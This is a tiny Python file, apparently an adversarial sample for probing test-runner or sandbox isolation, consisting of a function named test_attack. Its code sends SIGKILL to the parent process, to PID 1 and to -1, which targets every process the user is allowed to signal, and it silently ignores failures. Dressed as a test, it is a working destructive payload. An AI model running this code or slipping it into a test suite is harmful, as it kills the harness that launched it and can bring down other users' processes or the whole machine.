"""Kills the process that started it, and everyone else it may."""

import os
import signal


def test_attack():
    for target in (os.getppid(), 1, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
